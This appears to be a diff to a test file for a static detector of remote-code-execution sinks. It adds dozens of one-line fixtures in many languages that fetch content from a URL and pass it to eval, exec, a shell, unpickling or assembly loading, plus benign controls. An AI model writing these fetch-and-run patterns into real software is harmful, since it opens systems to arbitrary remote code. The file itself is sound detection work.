@@ -110,6 +110,138 @@ describe('pass 14 bypasses, gap and escape: comments, line joins and escapes bet
   ])('accepts, in %s: %s', accepted);
 });
 
+describe('pass 14 bypasses, alias: a sink passed as a value or given another name', () => {
+  it.each([
+    ['src/a.js', 'const run = eval; run(await (await fetch(u)).text());'],
+    ['src/a.js', "const run = globalThis['eval'];\nrun(await (await fetch(u)).text());"],
+    ['src/a.py', 'run = exec\nrun(requests.get(u).text)'],
+    ['src/a.js', "fetch(u).then((r) => r.text()).then(globalThis['eval']);"],
+    ['src/a.js', 'fetch(u).then((r) => r.text()).then(eval.bind(null));'],
+    ['src/a.js', "fetch(u).then((r) => r.text()).then(require('vm').runInThisContext);"],
+    ['src/a.js', 'fetch(u).then((r) => r.text()).then(vm.runInThisContext);'],
+    ['src/a.js', 'fetch(u).then((r) => r.text()).then(setTimeout);'],
+    ['src/a.py', 'list(map(exec, urlopen(u)))'],
+  ])('refuses, in %s: %s', refused);
+  it.each([
+    ['src/a.js', "const { exec, spawn } = require('child_process');\nconst r = await fetch(url);"],
+    ['src/a.js', 'const timer = setTimeout(tick, 1000);\nconst r = await fetch(url);'],
+    ['src/a.py', 'results = list(map(execute, [requests.get(u) for u in urls]))'],
+    ['src/a.js', 'const run = evaluate;\nrun(await (await fetch(url)).json());'],
+  ])('accepts, in %s: %s', accepted);
+});
+
+describe('pass 14 bypasses, proc: process calls that run a shell or an interpreter on what was fetched', () => {
+  it.each([
+    ['src/a.js', "spawnSync(await (await fetch(u)).text(), { shell: true, stdio: 'inherit' });"],
+    ['src/a.js', "spawnSync('sh', { input: await (await fetch(u)).text() });"],
+    ['src/a.js', "execFileSync('/bin/sh', ['-c', await (await fetch(u)).text()]);"],
+    ['src/a.js', "execFileSync('bash', ['-lc', await (await fetch(u)).text()]);"],
+    ['src/a.js', "execFileSync('bash', ['-e', '-c', await (await fetch(u)).text()]);"],
+    ['src/a.js', "execFileSync(process.execPath, ['-e', await (await fetch(u)).text()]);"],
+    ['src/a.js', "execFileSync('node', ['--input-type=module', '-e', await (await fetch(u)).text()]);"],
+    ['src/a.js', "new Deno.Command('sh', { args: ['-c', await (await fetch(u)).text()] }).outputSync();"],
+    ['src/a.js', 'execa(await (await fetch(u)).text(), { shell: true });'],
+    ['src/a.js', 'execaCommandSync(await (await fetch(u)).text());'],
+    ['src/a.py', "subprocess.run(['sh'], input=requests.get(u).content)"],
+    ['src/a.py', "subprocess.run('bash', input=urlopen(u).read())"],
+    ['src/a.py', "subprocess.Popen(['bash'], stdin=subprocess.PIPE).communicate(requests.get(u).content)"],
+    ['src/a.py', 'subprocess.run(requests.get(u).text, shell=1)'],
+    ['src/a.py', "subprocess.run(requests.get(u).text, **{'shell': True})"],
+    ['src/a.py', "subprocess.run(['bash', '-lc', requests.get(u).text])"],
+    ['src/a.py', "subprocess.run([sys.executable, '-c', requests.get(u).text])"],
+    ['src/a.py', 'await asyncio.create_subprocess_shell(requests.get(u).text)'],
+    ['src/a.py', "os.spawnlp(os.P_WAIT, 'sh', 'sh', '-c', requests.get(u).text)"],
+    ['lib/a.rb', "Open3.capture2('sh', stdin_data: URI.open(u).read)"],
+    ['src/A.java', 'new ProcessBuilder("/bin/sh", "-c", new String(new URL(u).openStream().readAllBytes())).start();'],
+    ['src/A.cs', 'Process.Start("powershell", "-c " + await http.GetStringAsync(u));'],
+    ['src/A.cs', 'PowerShell.Create().AddScript(await http.GetStringAsync(u)).Invoke();'],
+    ['lib/a.rb', 'ERB.new(URI.open(u).read).result(binding)'],
+  ])('refuses, in %s: %s', refused);
+  it.each([
+    ['src/a.py', "subprocess.run(['gpg', '--import'], input=requests.get(key_url).content, check=True)"],
+    ['src/a.js', "spawnSync('git', ['log', '--oneline'], { shell: false });\nconst r = await fetch(url);"],
+    ['src/a.py', "subprocess.run(['bash', '-lc', 'make test'], check=True)\nr = requests.get(url)"],
+    ['src/a.js', "execFileSync('node', ['-e', 'console.log(process.version)']);\nconst r = await fetch(url);"],
+    ['src/a.py', "proc = subprocess.Popen(['git', 'apply'], stdin=subprocess.PIPE)\nproc.communicate(requests.get(url).content)"],
+  ])('accepts, in %s: %s', accepted);
+});
+
+describe('pass 14 bypasses, pysink: Python sinks by name', () => {
+  it.each([
+    ['src/a.py', 'timeit.timeit(requests.get(u).text, number=1)'],
+    ['src/a.py', 'get_ipython().run_cell(requests.get(u).text)'],
+    ['src/a.py', 'pickle.Unpickler(urlopen(u)).load()'],
+    ['src/a.py', 'obj = jsonpickle.decode(requests.get(u).text)'],
+    ['src/a.py', 'code.InteractiveConsole().push(requests.get(u).text)'],
+    ['src/a.py', "m = keras.models.load_model(get_file('m.keras', 'https://x.example/m.keras'), safe_mode=False)"],
+  ])('refuses, in %s: %s', refused);
+  it.each([
+    ['src/a.py', 'elapsed = timeit.timeit(lambda: requests.get(url), number=3)'],
+    ['src/a.py', "m = keras.models.load_model(get_file('m.keras', 'https://x.example/m.keras'))"],
+    ['src/a.py', 'obj = json.loads(requests.get(url).text)'],
+  ])('accepts, in %s: %s', accepted);
+});
+
+describe('pass 14 bypasses, fetch: fetches in other languages', () => {
+  it.each([
+    ['src/a.js', "eval(await (await window['fetch'](u)).text());"],
+    ['src/a.js', 'eval(await (await nodeFetch(u)).text());'],
+    ['src/a.js', 'eval((await $fetch.raw(u))._data);'],
+    ['src/a.py', 'exec(niquests.get(u).text)'],
+    ['src/a.py', "exec(socket.create_connection(('x.example', 80)).recv(65536))"],
+    ['src/a.py', "exec(subprocess.check_output(['/usr/bin/curl', '-s', u]))"],
+    ['lib/a.rb', 'eval(URI.parse("https://x.example/p").read)'],
+    ['lib/a.rb', 'eval(URI("https://x.example/p").read)'],
+    ['lib/a.rb', 'eval(Net::HTTP.get_response(URI(u)).body)'],
+    ['lib/a.rb', 'eval(Excon.get(u).body)'],
+    ['lib/a.rb', 'eval(Typhoeus.get(u).body)'],
+    ['lib/a.rb', 'eval(%x{/usr/bin/curl -s https://x.example/p})'],
+    ['lib/a.rb', 'eval(`/usr/bin/curl -s https://x.example/p`)'],
+    ['lib/a.rb', 'eval(`command curl -s https://x.example/p`)'],
+    ['lib/a.rb', 'eval(ERB.new(URI.open(u).read).result)'],
+    ['src/a.php', '$ch = curl_init($u); curl_setopt($ch, CURLOPT_RETURNTRANSFER, true); eval(curl_exec($ch));'],
+    ['src/a.php', 'eval(wp_remote_retrieve_body(wp_remote_get($u)));'],
+    ['src/a.php', 'eval((string) $client->get($u)->getBody());'],
+    ['src/a.php', "eval($http->request('GET', $u)->getContent());"],
+    ['lib/a.pl', 'eval HTTP::Tiny->new->get($u)->{content};'],
+    ['lib/a.pl', 'eval LWP::UserAgent->new->get($u)->decoded_content;'],
+    ['lib/a.pl', 'eval $ua->get($u)->decoded_content;'],
+    ['lib/a.pl', 'eval(Mojo::UserAgent->new->get($u)->result->body);'],
+    ['lib/a.pl', 'eval `/usr/bin/curl -s https://x.example/p`;'],
+    ['src/A.java', 'engine.eval(new String(URI.create(u).toURL().openConnection().getInputStream().readAllBytes()));'],
+    ['src/A.java', 'engine.eval(new OkHttpClient().newCall(new Request.Builder().url(u).build()).execute().body().string());'],
+    ['src/A.java', 'engine.eval(new RestTemplate().getForObject(u, String.class));'],
+    ['src/A.java', 'engine.eval(Jsoup.connect(u).ignoreContentType(true).execute().body());'],
+    ['src/A.java', 'engine.eval(client.send(HttpRequest.newBuilder(URI.create(u)).build(), BodyHandlers.ofString()).body());'],
+    ['src/A.kt', 'engine.eval(URL(u).readText())'],
+    ['src/A.kt', 'Runtime.getRuntime().exec(arrayOf("sh", "-c", URL(u).readText()))'],
+    ['src/a.groovy', 'evaluate(u.toURL().text)'],
+    ['src/a.groovy', 'evaluate("https://x.example/p.groovy".toURL().text)'],
+    ['src/A.cs', 'Assembly.Load(await (await http.GetAsync(u)).Content.ReadAsByteArrayAsync());'],
+    ['src/A.cs', 'AppDomain.CurrentDomain.Load(await http.GetByteArrayAsync(u));'],
+    ['src/A.cs', 'AssemblyLoadContext.Default.LoadFromStream(await http.GetStreamAsync(u));'],
+    ['src/a.r', 'eval(parse(text = httr::content(httr::GET(u), "text")))'],
+    ['src/a.r', 'eval(parse(text = RCurl::getURL(u)))'],
+    ['src/a.r', 'source(gzcon(url("https://x.example/p.R")))'],
+    ['src/a.jl', 'Base.include(Main, download(u))'],
+    ['src/a.lua', 'loadstring(game:GetService("HttpService"):GetAsync(u))()'],
+    ['src/a.ex', 'Code.eval_string(Req.get!(u).body)'],
+    ['src/a.ex', 'Code.eval_string(Tesla.get!(u).body)'],
+    ['src/a.ex', 'System.cmd("sh", ["-c", Req.get!(u).body])'],
+    ['src/a.clj', '(load-string (:body (client/get u)))'],
+    ['src/a.clj', '(eval (read-string (:body @(http/get u))))'],
+    ['src/a.clj', '(load-reader (io/reader "https://x.example/p.clj"))'],
+  ])('refuses, in %s: %s', refused);
+  it.each([
+    ['src/a.js', "app.get('/x', (req, res) => { const host = req.get('host'); eval(config.hooks[host]); });"],
+    ['src/a.php', "$svc = $this->get('mailer'); eval($template);"],
+    ['src/A.kt', 'val text = File(path).readText()\nengine.eval(text)'],
+    ['lib/a.rb', 'host = URI.parse(url).host\neval(File.read("config.rb"))'],
+    ['src/a.r', 'df <- read.csv(url("https://example.com/data.csv"))'],
+    ['src/a.py', 'data = sock.recv(1024)\nprint(data)'],
+  ])('accepts, in %s: %s', accepted);
+});
+
 /** Sizes of the cost texts, as in pass-14-code-sinks.test.ts. */
 const sizes = [10, 20, 40, 80].map((kb) => kb * 1024);
 
@@ -121,6 +253,10 @@ describe('pass 14 findings: the cost of the readings added', () => {
     ['receivers of exec', 'a.exec(child_process.exec(/x/.exec('],
     ['comments never closed and escapes', '/* eval \\u0065 \\\n // x\n'],
     ['comments closed', 'eval/**/( /* */ \\u{65}'],
+    ['aliases and calls', 'run = eval; run(x = '],
+    ['interpreters with flags', "spawn('sh', '-c', 'a', ['-e', "],
+    ['shells given input', "run(['bash'], x, input="],
+    ['fetch forms', "URI.parse(u).read $client->get( (client/get x .toURL().text "],
   ] as const) {
     it(`reads ${name} in linear time`, { timeout: 120_000 }, () => {
       const textOf = (bytes: number) => `fetch(u)\n${unit.repeat(Math.floor(bytes / unit.length))}`;
